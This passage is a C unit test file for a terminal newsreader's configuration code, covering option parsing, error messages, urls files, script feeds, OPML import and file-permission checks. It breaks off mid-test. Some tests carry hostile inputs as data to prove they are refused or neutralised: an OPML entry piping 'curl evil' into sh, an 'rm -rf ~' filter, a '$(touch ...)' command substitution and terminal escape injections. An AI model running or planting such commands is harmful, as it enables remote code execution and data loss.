/*
 * Unit tests for src/config: the option table, the config file parser and
 * its error messages, the urls file, OPML in and out, and start-up loading.
 * Fixtures are in tests/fixtures/config (found through $NR_SRCDIR).
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "cli.h"
#include "config/diag.h"
#include "config/lex.h"
#include "config/load.h"
#include "config/opml.h"
#include "config/paths.h"
#include "config/scriptfeed.h"
#include "config/settings.h"
#include "config/urls.h"
#include "share/argv.h"
#include "util/xalloc.h"

static char *
fixture(const char *name)
{
	const char *src = getenv("NR_SRCDIR");
	return xasprintf("%s/tests/fixtures/config/%s", src ? src : ".", name);
}

static struct config *
parse_str(const char *text, struct diag_list *d)
{
	struct config *c;
	config_parse("t.conf", text, strlen(text), &c, d);
	return c;
}

/* The one error a single line produces. */
static void
assert_error(const char *text, const char *expected)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c = parse_str(text, &d);

	assert_int_equal(d.n, 1);
	assert_int_equal(d.v[0].level, DIAG_ERROR);
	assert_string_equal(d.v[0].msg, expected);
	diag_list_clear(&d);
	config_free(&c);
}

static void
test_option_table(void **state)
{
	size_t n;
	const struct config_option *o = config_options(&n);
	char tmp[32];
	(void)state;

	assert_true(n >= 20);
	for (size_t i = 0; i < n; i++) {
		assert_non_null(o[i].help);
		assert_non_null(o[i].args);
		assert_ptr_equal(config_option_find(o[i].name), &o[i]);
		if (o[i].type == CONFIG_INT)
			assert_true(o[i].default_int >= o[i].min && o[i].default_int <= o[i].max);
		if (o[i].type == CONFIG_ENUM) {
			long k = 0;
			while (o[i].choices[k] != NULL)
				k++;
			assert_true(o[i].default_int < k);
		}
	}
	assert_null(config_option_find("nope"));
	assert_string_equal(config_option_default_text(config_option_find("comment-limit"),
	    tmp, sizeof tmp), "400");
	assert_string_equal(config_option_default_text(config_option_find("bidi"),
	    tmp, sizeof tmp), "app");
	assert_string_equal(config_option_default_text(config_option_find("browser"),
	    tmp, sizeof tmp), "");
}

static void
test_defaults(void **state)
{
	struct config *c = config_new_defaults();
	(void)state;

	assert_null(c->file);
	assert_int_equal(c->auto_reload, 0);
	assert_int_equal(c->bidi, CONFIG_BIDI_APP);
	assert_int_equal(c->shaping, 1);
	assert_int_equal(c->ui_direction, CONFIG_DIR_AUTO);
	assert_int_equal(c->market_interval, 60);
	assert_int_equal(c->green_up, 1);
	assert_int_equal(c->full_text, CONFIG_FULL_TEXT_NO);
	assert_int_equal(c->comment_limit, 400);
	assert_int_equal(c->comment_unit, CONFIG_UNIT_CLUSTERS);
	assert_int_equal(c->max_parallel, 16);
	assert_int_equal(c->max_per_host, 4);
	assert_int_equal(c->download_timeout, 30);
	assert_int_equal(c->connect_timeout, 10);
	assert_int_equal(c->max_body_size, 32);
	assert_int_equal(c->reload_on_start, 0);
	assert_string_equal(c->date_format, "%Y-%m-%d");
	assert_null(c->browser);
	assert_int_equal(c->nmarket_sources + c->nbinds + c->ncolors + c->ncomment_endpoints, 0);
	config_free(&c);
	assert_null(c);
}

static void
test_good_file(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	char *path = fixture("good.conf");
	struct config *c;
	(void)state;

	assert_int_equal(config_load(path, true, &c, &d), 0);
	assert_int_equal(d.n, 0);
	assert_string_equal(c->file, path);
	assert_int_equal(c->auto_reload, 30);	/* the later line wins */
	assert_int_equal(c->reload_on_start, 1);
	assert_int_equal(c->bidi, CONFIG_BIDI_TERMINAL);
	assert_int_equal(c->shaping, 0);
	assert_int_equal(c->ui_direction, CONFIG_DIR_RTL);
	assert_string_equal(c->date_format, "%d %b %Y  # not a comment");
	assert_int_equal(c->full_text, CONFIG_FULL_TEXT_AUTO);
	assert_int_equal(c->market_interval, 5);
	assert_int_equal(c->green_up, 0);
	assert_int_equal(c->comment_limit, 280);
	assert_int_equal(c->comment_unit, CONFIG_UNIT_CODEPOINTS);
	assert_int_equal(c->max_parallel, 8);
	assert_int_equal(c->max_per_host, 2);
	assert_int_equal(c->connect_timeout, 5);
	assert_int_equal(c->download_timeout, 20);
	assert_int_equal(c->max_body_size, 4);

	/* One quoted value is split like a shell would; several are the words. */
	assert_string_equal(c->browser[0], "firefox");
	assert_string_equal(c->browser[1], "--new-tab");
	assert_string_equal(c->browser[2], "%u");
	assert_null(c->browser[3]);
	assert_string_equal(c->share_command[0], "/usr/bin/notify-send");
	assert_string_equal(c->share_command[1], "Shared: %t");
	assert_string_equal(c->share_command[2], "%u");
	assert_null(c->share_command[3]);
	assert_string_equal(c->bookmark_command[2], "%t");
	assert_string_equal(c->bookmark_command[3], "%u");

	assert_int_equal(c->nmarket_sources, 2);
	assert_int_equal(c->market_sources[0].kind, CONFIG_MARKET_GENERIC);
	assert_string_equal(c->market_sources[0].url, "file:///srv/market.json");
	assert_int_equal(c->market_sources[0].nparams, 0);
	assert_int_equal(c->market_sources[1].kind, CONFIG_MARKET_DEXSCREENER);
	assert_int_equal(c->market_sources[1].nparams, 2);
	assert_string_equal(c->market_sources[1].params[0].key, "chain");
	assert_string_equal(c->market_sources[1].params[0].value, "solana");
	assert_string_equal(c->market_sources[1].params[1].value, "AbC,dEf");
	assert_int_equal(c->market_sources[1].line, 23);
	assert_string_equal(config_market_kind_name(c->market_sources[1].kind), "dexscreener");

	assert_int_equal(c->nbinds, 2);
	assert_string_equal(c->binds[1].key, "C-x");
	assert_string_equal(c->binds[1].action, "quit");
	assert_int_equal(c->binds[1].line, 25);

	assert_int_equal(c->ncolors, 2);
	assert_string_equal(c->colors[0].element, "article-title");
	assert_string_equal(c->colors[0].fg, "brightwhite");
	assert_string_equal(c->colors[0].bg, "color24");
	assert_string_equal(c->colors[0].attrs[1], "underline");
	assert_null(c->colors[0].attrs[2]);
	assert_null(c->colors[1].attrs[0]);

	assert_int_equal(c->ncomment_endpoints, 2);
	assert_string_equal(c->comment_endpoints[0].user, "layla");
	assert_int_equal(c->comment_endpoints[0].limit, 500);
	assert_int_equal(c->comment_endpoints[0].unit, -1);
	assert_non_null(strstr(c->comment_endpoints[0].password_file,
	    "/.config/newsreader/wp-pass"));
	assert_true(c->comment_endpoints[0].password_file[0] != '~');
	assert_null(c->comment_endpoints[1].user);
	assert_int_equal(c->comment_endpoints[1].unit, CONFIG_UNIT_UTF16);
	config_free(&c);
	free(path);
}

/* Every error of a file is reported, each with its line, in order. */
static void
test_error_file(void **state)
{
	static const char *const expected[] = {
		"2: unknown setting 'auto-reloadd'",
		"3: bad value 'auto' for bidi (expected app or terminal)",
		"4: bad value '-1' for auto-reload (expected a number from 0 to 10080)",
		"5: bad value '12abc' for comment-limit (expected a number from 1 to 100000)",
		"6: missing value for ui-direction (expected auto, ltr or rtl)",
		"7: too many values for shaping (expected off or on)",
		"8: unterminated quote",
		"9: bad value ''unclosed' for share-command (expected a command line)",
		"10: bad value 'coinbase' for market-source (expected generic, gate-alpha, "
		    "coingecko or dexscreener)",
		"11: bad value 'ftp://x.example/m.json' for market-source (expected an http, "
		    "https or file URL)",
		"12: bad value 'nokey' for market-source (expected KEY=VALUE)",
		"13: missing value for bind (expected KEY ACTION)",
		"14: bad value 'purple' for color (expected default, black, red, green, yellow, "
		    "blue, magenta, cyan, white, brightNAME or color0 to color255)",
		"15: bad value 'blinking' for color (expected normal, bold, dim, underline, "
		    "reverse, standout, blink or italic)",
		"16: bad value 'http://b.example/' for comment-endpoint (expected an https:// "
		    "WordPress address)",
		"17: comment-endpoint needs both user= and password-file= (or neither)",
		"18: bad value '0' for max-parallel (expected a number from 1 to 256)",
		"19: bad value '0' for market-interval (expected a number from 1 to 86400)",
		"20: bad value 'maybe' for full-text (expected no, yes or auto)",
		"21: missing value for date-format (expected FORMAT)",
	};
	struct diag_list d = DIAG_LIST_INIT;
	char *path = fixture("errors.conf");
	struct config *c;
	size_t n = sizeof expected / sizeof expected[0];
	(void)state;

	assert_int_equal(config_load(path, true, &c, &d), (int)n);
	assert_int_equal(d.n, n);
	for (size_t i = 0; i < n; i++) {
		char *want = xasprintf("%s:%s", path, expected[i]);
		assert_string_equal(d.v[i].msg, want);
		assert_int_equal(d.v[i].level, DIAG_ERROR);
		assert_int_equal(d.v[i].line, atoi(expected[i]));
		free(want);
	}
	/* Wrong lines change nothing; right ones still apply. */
	assert_int_equal(c->bidi, CONFIG_BIDI_APP);
	assert_int_equal(c->green_up, 1);
	assert_int_equal(c->nbinds, 0);
	diag_list_clear(&d);
	config_free(&c);
	free(path);
}

static void
test_single_errors(void **state)
{
	(void)state;
	assert_error("bidi app terminal\n",
	    "t.conf:1: too many values for bidi (expected app or terminal)");
	assert_error("\n\n  foo bar # x\n", "t.conf:3: unknown setting 'foo'");
	assert_error("date-format a b\n",
	    "t.conf:1: too many values for date-format (expected FORMAT)");
	assert_error("bind a b c\n", "t.conf:1: too many values for bind (expected KEY ACTION)");
	assert_error("comment-limit 100001\n",
	    "t.conf:1: bad value '100001' for comment-limit (expected a number from 1 to 100000)");
	assert_error("comment-unit bytes\n",
	    "t.conf:1: bad value 'bytes' for comment-unit (expected clusters, codepoints or utf16)");
	assert_error("comment-endpoint ftp://x/ https://y/\n",
	    "t.conf:1: bad value 'ftp://x/' for comment-endpoint (expected a feed URL prefix "
	    "starting with http:// or https://)");
	assert_error("comment-endpoint https://x/ https://y/ colour=red\n",
	    "t.conf:1: bad value 'colour=red' for comment-endpoint (expected user=NAME, "
	    "password-file=PATH, name=NAME, email=ADDRESS, limit=N or "
	    "unit=clusters|codepoints|utf16)");
	assert_error("market-source generic\n",
	    "t.conf:1: missing value for market-source (expected "
	    "generic|gate-alpha|coingecko|dexscreener URL [KEY=VALUE...])");
	assert_error("color x red\n",
	    "t.conf:1: missing value for color (expected ELEMENT FG BG [ATTR...])");
	assert_error("browser\n", "t.conf:1: missing value for browser (expected a command line)");
	assert_error("browser \"\"\n", "t.conf:1: bad value '' for browser (expected a command line)");
	assert_error("green-up \"yes\" \"\"\n",
	    "t.conf:1: too many values for green-up (expected no or yes)");
}

/* comment-endpoint name= and email=: the author identity for that site. */
static void
test_comment_identity(void **state)
{
	static const struct {
		const char *line;
		const char *error;
	} bad[] = {
		{ "email=salma.example.org", "email=salma.example.org" },
		{ "email=@example.org", "email=@example.org" },
		{ "email=salma@", "email=salma@" },
		{ "email=", "email=" },
		{ "\"email=salma @example.org\"", "email=salma @example.org" },
		{ "\"email=salma@exa\tmple.org\"", "email=salma@exa\tmple.org" },
		{ "\"email=salma@example.org\x1b[31m\"", "email=salma@example.org\x1b[31m" },
		{ "\"email=salma@example.org\xc2\x9b\"", "email=salma@example.org\xc2\x9b" },
	};
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c;
	(void)state;

	c = parse_str("comment-endpoint https://blog.example.org/ https://blog.example.org "
	    "\"name=سلمى الكاتبة\" email=salma@example.org\n"
	    "comment-endpoint https://news.example.com/ https://news.example.com "
	    "user=layla password-file=/tmp/pw email=layla+news@mail.example.com\n"
	    "comment-endpoint https://plain.example.net/ https://plain.example.net\n", &d);
	assert_int_equal(d.n, 0);
	assert_int_equal(c->ncomment_endpoints, 3);
	assert_string_equal(c->comment_endpoints[0].name, "سلمى الكاتبة");
	assert_string_equal(c->comment_endpoints[0].email, "salma@example.org");
	assert_null(c->comment_endpoints[0].user);
	assert_null(c->comment_endpoints[1].name);
	assert_string_equal(c->comment_endpoints[1].email, "layla+news@mail.example.com");
	assert_string_equal(c->comment_endpoints[1].user, "layla");
	assert_null(c->comment_endpoints[2].name);
	assert_null(c->comment_endpoints[2].email);
	config_free(&c);

	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		char *text = xasprintf("\n# identity\ncomment-endpoint https://x.example/ "
		    "https://y.example/ %s\n", bad[i].line);
		char *want = xasprintf("t.conf:3: bad value '%s' for comment-endpoint (expected "
		    "email=ADDRESS with an '@' and no spaces)", bad[i].error);
		c = parse_str(text, &d);
		if (d.n != 1 || strcmp(d.v[0].msg, want) != 0)
			fail_msg("%s: got '%s'", bad[i].line, d.n > 0 ? d.v[0].msg : "(no error)");
		assert_int_equal(c->ncomment_endpoints, 0);
		diag_list_clear(&d);
		config_free(&c);
		free(text);
		free(want);
	}
	assert_error("comment-endpoint https://x.example/ https://y.example/ \"name=  \"\n",
	    "t.conf:1: bad value 'name=  ' for comment-endpoint (expected name=NAME, not blank, "
	    "without control characters)");
	assert_error("comment-endpoint https://x.example/ https://y.example/ name=\n",
	    "t.conf:1: bad value 'name=' for comment-endpoint (expected name=NAME, not blank, "
	    "without control characters)");
	assert_error("comment-endpoint https://x.example/ https://y.example/ "
	    "\"name=a\x07" "b\"\n",
	    "t.conf:1: bad value 'name=a\x07" "b' for comment-endpoint (expected name=NAME, not "
	    "blank, without control characters)");
	/* All eight values fit on one line. */
	c = parse_str("comment-endpoint https://x.example/ https://y.example/ user=u "
	    "password-file=/p name=N email=n@x.example limit=9 unit=utf16\n", &d);
	assert_int_equal(d.n, 0);
	assert_string_equal(c->comment_endpoints[0].name, "N");
	assert_int_equal(c->comment_endpoints[0].limit, 9);
	config_free(&c);
}

static void
test_quotes_and_comments(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c;
	(void)state;

	c = parse_str("\xEF\xBB\xBF# BOM, then a comment\r\n"
	    "date-format \"say \\\"hi\\\" \\\\ \\n\"\t# comment\r\n"
	    "   # indented comment\n"
	    "bind \"#\" search\n"
	    "bind x#y toggle # the # inside a token is kept\n"
	    "shaping off", &d);
	assert_int_equal(d.n, 0);
	assert_string_equal(c->date_format, "say \"hi\" \\ \\n");
	assert_int_equal(c->nbinds, 2);
	assert_string_equal(c->binds[0].key, "#");
	assert_string_equal(c->binds[1].key, "x#y");
	assert_string_equal(c->binds[1].action, "toggle");
	assert_int_equal(c->shaping, 0);	/* last line without a newline */
	assert_string_equal(c->file, "t.conf");
	config_free(&c);
}

static void
test_missing_file(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c;
	(void)state;

	assert_int_equal(config_load("/nonexistent/newsreader/config", false, &c, &d), 0);
	assert_int_equal(d.n, 0);
	assert_null(c->file);
	assert_int_equal(c->comment_limit, 400);
	config_free(&c);
	assert_int_equal(config_load("/nonexistent/newsreader/config", true, &c, &d), 1);
	assert_string_equal(d.v[0].msg,
	    "/nonexistent/newsreader/config: No such file or directory");
	config_free(&c);
	diag_list_clear(&d);
}

static bool
key_ok(const char *name, void *ud)
{
	(void)ud;
	return strlen(name) == 1 || strcmp(name, "C-x") == 0;
}

static bool
action_ok(const char *name, void *ud)
{
	(void)ud;
	return strcmp(name, "quit") == 0 || strcmp(name, "next") == 0;
}

static bool
element_ok(const char *name, void *ud)
{
	return strcmp(name, (const char *)ud) == 0;
}

static void
test_check_hooks(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c;
	(void)state;

	c = parse_str("bind j next\n# x\nbind F13 quit\nbind q exit\n"
	    "color title red blue\ncolor titel red blue\n", &d);
	assert_int_equal(d.n, 0);
	assert_int_equal(config_check_binds(c, key_ok, action_ok, NULL, &d), 2);
	assert_int_equal(config_check_colors(c, element_ok, "title", &d), 1);
	assert_int_equal(d.n, 3);
	assert_string_equal(d.v[0].msg, "t.conf:3: unknown key 'F13'");
	assert_string_equal(d.v[1].msg, "t.conf:4: unknown action 'exit'");
	assert_string_equal(d.v[2].msg, "t.conf:6: unknown color element 'titel'");
	assert_int_equal(d.v[2].line, 6);
	assert_int_equal(diag_count(&d, DIAG_ERROR), 3);
	assert_int_equal(diag_count(&d, DIAG_WARNING), 0);
	diag_list_clear(&d);
	config_free(&c);
}

static void
test_split_command(void **state)
{
	char **argv;
	(void)state;

	argv = lex_split_command("  a 'b c' \"d \\\"e\\\"\" f\\ g ''  ");
	assert_string_equal(argv[0], "a");
	assert_string_equal(argv[1], "b c");
	assert_string_equal(argv[2], "d \"e\"");
	assert_string_equal(argv[3], "f g");
	assert_string_equal(argv[4], "");
	assert_null(argv[5]);
	lex_argv_free(&argv);
	assert_null(argv);
	assert_null(lex_split_command("'open"));
	assert_null(lex_split_command("\"open"));
	assert_null(lex_split_command("   "));
}

static void
test_urls_file(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	char *path = fixture("urls");
	(void)state;

	assert_int_equal(urls_load(path, false, &l, &d), 0);
	assert_int_equal(l->n, 8);
	assert_string_equal(l->v[0].url, "https://example.org/feed.xml");
	assert_int_equal(l->v[0].ntags, 0);
	assert_null(l->v[0].title);
	assert_int_equal(l->v[0].line, 3);
	assert_string_equal(l->v[1].url, "https://example.org/ar.xml");
	assert_int_equal(l->v[1].ntags, 2);
	assert_string_equal(l->v[1].tags[0], "عربي");
	assert_string_equal(l->v[1].tags[1], "news");
	assert_string_equal(l->v[1].title, "أخبار اليوم");
	assert_string_equal(l->v[2].tags[1], "two words");
	assert_string_equal(l->v[2].title, "Short");
	assert_int_equal(l->v[2].ntags, 2);
	assert_string_equal(l->v[3].url, "https://example.com/frag#section");
	assert_string_equal(l->v[3].tags[0], "tag#1");
	/* Script feeds: the whole line is the feed's URL (its identity). */
	assert_string_equal(l->v[4].url, "exec:~/bin/make-feed");
	assert_string_equal(l->v[5].url, "filter:~/bin/clean:https://example.org/raw.xml");
	assert_string_equal(l->v[6].url, "file:///home/me/feed.xml");
	assert_string_equal(l->v[6].title, "Mine \"quoted\"");
	assert_string_equal(l->v[7].url, "https://example.org/crlf.xml");
	assert_string_equal(l->v[7].tags[0], "windows");

	static const char *const warnings[] = {
		"7: query feed 'Unread': expected a value after '=' at column 9 (line skipped)",
		"10: unsupported URL 'ftp://example.org/feed.xml' (expected http, https or file; "
		    "line skipped)",
		"11: duplicate URL 'https://example.org/feed.xml' (first on line 3; this line "
		    "skipped)",
		"12: unterminated quote (line skipped)",
	};
	assert_int_equal(d.n, 4);
	for (size_t i = 0; i < 4; i++) {
		char *want = xasprintf("%s:%s", path, warnings[i]);
		assert_string_equal(d.v[i].msg, want);
		assert_int_equal(d.v[i].level, DIAG_WARNING);
		free(want);
	}
	urls_list_free(&l);
	diag_list_clear(&d);
	assert_int_equal(urls_load("/nonexistent/urls", false, &l, &d), -1);
	assert_null(l);
	assert_string_equal(d.v[0].msg, "/nonexistent/urls: No such file or directory");
	assert_int_equal(d.v[0].level, DIAG_ERROR);
	diag_list_clear(&d);
	free(path);
}

/* Query feeds: title and expression kept, errors with line and column. */
static void
test_urls_query(void **state)
{
	static const char text[] =
	    "\"query:غير مقروء:unread = \\\"yes\\\" and title =~ \\\"بيتكوين\\\"\"\n"
	    "\"query:Bad:title =~\"\n"
	    "\"query:NoExpr\"\n"
	    "\"query:غير مقروء:age < 3\"\n"
	    "http://example.org/a.xml\n";
	struct diag_list d = { 0 };
	struct urls_list *l;

	(void)state;
	assert_int_equal(urls_parse("urls", text, sizeof text - 1, NULL, &l, &d), 0);
	assert_int_equal(l->n, 1);
	assert_int_equal(l->nqueries, 1);
	assert_string_equal(l->queries[0].title, "غير مقروء");
	assert_string_equal(l->queries[0].expr, "unread = \"yes\" and title =~ \"بيتكوين\"");
	assert_int_equal(l->queries[0].line, 1);
	assert_int_equal(d.n, 3);
	assert_string_equal(d.v[0].msg,
	    "urls:2: query feed 'Bad': expected a value after '=~' at column 9 (line skipped)");
	assert_string_equal(d.v[1].msg, "urls:3: query feed without an expression "
	    "(expected \"query:Title:EXPRESSION\"; line skipped)");
	assert_string_equal(d.v[2].msg,
	    "urls:4: duplicate query feed 'غير مقروء' (first on line 1; this line skipped)");
	urls_list_free(&l);
	diag_list_clear(&d);
}

static void
test_urls_datadir(void **state)
{
	static const char text[] =
	    "file://%DATADIR%/demo/a.xml demo\n"
	    "https://example.org/%DATADIR%\n";
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	(void)state;

	urls_parse("demo", text, strlen(text), "/opt/my data#1", &l, &d);
	assert_int_equal(d.n, 0);
	assert_string_equal(l->v[0].url, "file:///opt/my%20data%231/demo/a.xml");
	assert_string_equal(l->v[1].url, "https://example.org//opt/my%20data%231");
	urls_list_free(&l);
	/* Not the demo list: the token stays as written. */
	urls_parse("mine", text, strlen(text), NULL, &l, &d);
	assert_string_equal(l->v[0].url, "file://%DATADIR%/demo/a.xml");
	urls_list_free(&l);
}

/* A title or tag cannot carry escape sequences or bidi controls. */
static void
test_urls_sanitized(void **state)
{
	static const char text[] =
	    "https://example.org/x.xml \"t\x1b[31mag\" \"~Ti\x1b]0;pwned\x07tle\xe2\x80\xae\"\n";
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	(void)state;

	urls_parse("u", text, strlen(text), NULL, &l, &d);
	assert_int_equal(d.n, 0);
	assert_string_equal(l->v[0].tags[0], "tag");
	assert_string_equal(l->v[0].title, "Title");
	urls_list_free(&l);
}

/* The bundled list: every demo feed exists where its URL points. */
static void
test_bundled_demo_list(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	char *dir = xasprintf("%s/data", getenv("NR_SRCDIR") ? getenv("NR_SRCDIR") : ".");
	char *list = xasprintf("%s/demo/urls", dir);
	struct stat st;
	(void)state;

	setenv("NR_DATA_DIR", dir, 1);
	assert_int_equal(urls_load(list, true, &l, &d), 0);
	assert_int_equal(d.n, 0);
	assert_true(l->n >= 3);
	for (size_t i = 0; i < l->n; i++) {
		assert_true(strncmp(l->v[i].url, "file://", 7) == 0);
		assert_null(strstr(l->v[i].url, "%DATADIR%"));
		assert_int_equal(stat(l->v[i].url + 7, &st), 0);
		assert_non_null(l->v[i].title);
		assert_true(l->v[i].ntags > 0);
	}
	urls_list_free(&l);
	free(list);
	free(dir);
}

/* exec:/filter: lines split as share-command is, never by a shell. */
static void
test_script_feed_parse(void **state)
{
	char **argv, *url, *err;
	(void)state;

	assert_int_equal(script_feed_kind("exec:x"), SCRIPT_FEED_EXEC);
	assert_int_equal(script_feed_kind("filter:x:https://h/"), SCRIPT_FEED_FILTER);
	assert_int_equal(script_feed_kind("https://h/exec:x"), SCRIPT_FEED_NONE);

	assert_int_equal(script_feed_parse("exec:/bin/gen 'a $(touch /tmp/x); b' \"q\\\"x\" ;",
	    &argv, &url, &err), 0);
	assert_null(url);
	assert_int_equal(share_argv_len(argv), 4);
	assert_string_equal(argv[0], "/bin/gen");
	assert_string_equal(argv[1], "a $(touch /tmp/x); b");
	assert_string_equal(argv[2], "q\"x");
	assert_string_equal(argv[3], ";");
	share_argv_free(&argv);

	/* The command ends at the first ':' outside quotes. */
	assert_int_equal(script_feed_parse("filter:clean 'a:b' \"c:d\":https://example.org/f.xml",
	    &argv, &url, &err), 0);
	assert_string_equal(url, "https://example.org/f.xml");
	assert_int_equal(share_argv_len(argv), 3);
	assert_string_equal(argv[1], "a:b");
	assert_string_equal(argv[2], "c:d");
	share_argv_free(&argv);
	free(url);

	setenv("HOME", "/home/مستخدم", 1);
	assert_int_equal(script_feed_parse("exec:~/bin/feed ~/x", &argv, &url, &err), 0);
	assert_string_equal(argv[0], "/home/مستخدم/bin/feed");
	assert_string_equal(argv[1], "~/x");	/* only the program's path */
	share_argv_free(&argv);

	static const struct { const char *line, *err; } bad[] = {
		{ "exec:", "exec: empty command" },
		{ "exec:   ", "exec: empty command" },
		{ "exec:''", "exec: empty command" },
		{ "exec:gen 'open", "exec: unterminated single quote" },
		{ "filter:clean", "filter: no URL after the command (filter:COMMAND:URL)" },
		{ "filter:clean:", "filter: no URL after the command (filter:COMMAND:URL)" },
		{ "filter:clean:ftp://h/f", "filter: unsupported URL 'ftp://h/f' (expected http, "
		    "https or file)" },
		{ "filter::https://h/f", "filter: empty command" },
	};
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		assert_int_equal(script_feed_parse(bad[i].line, &argv, &url, &err), -1);
		assert_null(argv);
		assert_null(url);
		assert_string_equal(err, bad[i].err);
		free(err);
	}
}

/* Write text to a new file in a new directory; returns its path. */
static char *
temp_file(const char *name, const char *text, mode_t mode)
{
	char dir[] = "/tmp/nr-config-test-XXXXXX";
	char *path;
	FILE *f;

	assert_non_null(mkdtemp(dir));
	path = xasprintf("%s/%s", dir, name);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	assert_int_equal(chmod(path, mode), 0);
	return path;
}

static void
temp_remove(char *path)
{
	char *slash = strrchr(path, '/');

	unlink(path);
	*slash = '\0';
	rmdir(path);
	free(path);
}

/* Whoever can write the urls file could run commands as its owner. */
static void
test_urls_scripts_refused_when_writable(void **state)
{
	static const char text[] =
	    "https://example.org/a.xml\n"
	    "\"exec:gen --all\" mine\n"
	    "\"filter:clean:https://example.org/raw.xml\"\n";
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	char *path = temp_file("urls", text, 0600), *want;
	(void)state;

	assert_int_equal(urls_load(path, false, &l, &d), 0);
	assert_int_equal(d.n, 0);
	assert_int_equal(l->n, 3);
	assert_string_equal(l->v[1].url, "exec:gen --all");
	assert_string_equal(l->v[1].tags[0], "mine");
	urls_list_free(&l);

	assert_int_equal(chmod(path, 0620), 0);
	assert_int_equal(urls_load(path, false, &l, &d), 0);
	assert_int_equal(l->n, 1);
	assert_string_equal(l->v[0].url, "https://example.org/a.xml");
	assert_int_equal(d.n, 2);
	want = xasprintf("%s:2: exec: feed refused: the file is writable by its group, who "
	    "could make it run any command as you (chmod go-w '%s'; line skipped)", path, path);
	assert_string_equal(d.v[0].msg, want);
	free(want);
	urls_list_free(&l);
	diag_list_clear(&d);

	assert_int_equal(chmod(path, 0602), 0);
	assert_int_equal(urls_load(path, false, &l, &d), 0);
	assert_int_equal(l->n, 1);
	assert_non_null(strstr(d.v[1].msg, ":3: filter: feed refused: the file is writable by "
	    "others"));
	urls_list_free(&l);
	diag_list_clear(&d);
	temp_remove(path);
}

/* The config's commands are refused, with its other settings kept, when
 * someone else may write the file (issue 18's local attacker). */
static void
test_config_commands_refused_when_writable(void **state)
{
	static const char text[] =
	    "text-width 60\n"
	    "share-command xdg-open %u\n"
	    "notify-program notify-send \"new articles\"\n";
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c;
	char *path = temp_file("config", text, 0644), *want;
	(void)state;

	assert_int_equal(config_load(path, true, &c, &d), 0);
	assert_int_equal(d.n, 0);
	assert_non_null(c->share_command);
	assert_non_null(c->notify_program);
	config_free(&c);

	assert_int_equal(chmod(path, 0664), 0);
	assert_int_equal(config_load(path, true, &c, &d), 0);
	assert_null(c->share_command);
	assert_null(c->notify_program);
	assert_int_equal(c->text_width, 60);
	assert_int_equal(d.n, 2);
	want = xasprintf("%s:2: share-command refused: the file is writable by its group, who "
	    "could make it run any command as you (chmod go-w '%s'; line skipped)", path, path);
	assert_string_equal(d.v[0].msg, want);
	free(want);
	config_free(&c);
	diag_list_clear(&d);

	assert_int_equal(chmod(path, 0646), 0);
	assert_int_equal(config_load(path, true, &c, &d), 0);
	assert_non_null(strstr(d.v[1].msg, ":3: notify-program refused: the file is writable by "
	    "others"));
	config_free(&c);
	diag_list_clear(&d);
	temp_remove(path);
}

/* A shared OPML file cannot plant a command in the urls file. */
static void
test_opml_refuses_scripts(void **state)
{
	static const char doc[] =
	    "<?xml version=\"1.0\"?>\n<opml version=\"2.0\"><head/><body>\n"
	    "<outline text=\"ok\" xmlUrl=\"https://example.org/ok.xml\"/>\n"
	    "<outline text=\"x\" xmlUrl=\"exec:sh -c 'curl evil | sh'\"/>\n"
	    "<outline text=\"y\" xmlUrl=\"filter:rm -rf ~:https://example.org/f.xml\"/>\n"
	    "</body></opml>\n";
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	char *err = NULL;
	(void)state;

	assert_int_equal(opml_parse("shared.opml", doc, strlen(doc), &l, &d, &err), 0);
	assert_null(err);
	assert_int_equal(l->n, 1);
	assert_string_equal(l->v[0].url, "https://example.org/ok.xml");
	assert_int_equal(d.n, 2);
	assert_string_equal(d.v[0].msg, "shared.opml: line 4: exec: feeds run a command and are "
	    "never imported from OPML; add the line to the urls file yourself if you trust it "
	    "(outline skipped)");
	assert_non_null(strstr(d.v[1].msg, "line 5: filter: feeds run a command"));
	urls_list_free(&l);
	diag_list_clear(&d);
}

static void
test_urls_format_roundtrip(void **state)
{
	const char *tags[] = { "plain", "two words", "quo\"te", "back\\slash", "#hash" };
	struct urls_list *l = urls_list_new(), *back;
	struct diag_list d = DIAG_LIST_INIT;
	char *line;
	(void)state;

	assert_true(urls_list_add(l, "https://example.org/a?b=1#c", tags, 5, "T \"x\" ~ y", 0));
	assert_false(urls_list_add(l, "https://example.org/a?b=1#c", NULL, 0, NULL, 0));
	line = urls_format_entry(&l->v[0]);
	assert_string_equal(line, "https://example.org/a?b=1#c plain \"two words\" "
	    "\"quo\\\"te\" \"back\\\\slash\" \"#hash\" \"~T \\\"x\\\" ~ y\"\n");
	urls_parse("x", line, strlen(line), NULL, &back, &d);
	assert_int_equal(d.n, 0);
	assert_int_equal(back->n, 1);
	assert_string_equal(back->v[0].url, l->v[0].url);
	assert_int_equal(back->v[0].ntags, 5);
	for (size_t i = 0; i < 5; i++)
		assert_string_equal(back->v[0].tags[i], tags[i]);
	assert_string_equal(back->v[0].title, "T \"x\" ~ y");
	free(line);
	urls_list_free(&back);
	urls_list_free(&l);
}

static void
test_opml_nested(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	char *path = fixture("nested.opml"), *err = NULL;
	(void)state;

	assert_int_equal(opml_parse_file(path, &l, &d, &err), 0);
	assert_null(err);
	assert_int_equal(l->n, 5);
	assert_string_equal(l->v[0].url, "https://example.org/type.xml");
	assert_string_equal(l->v[0].title, "Text & Type");
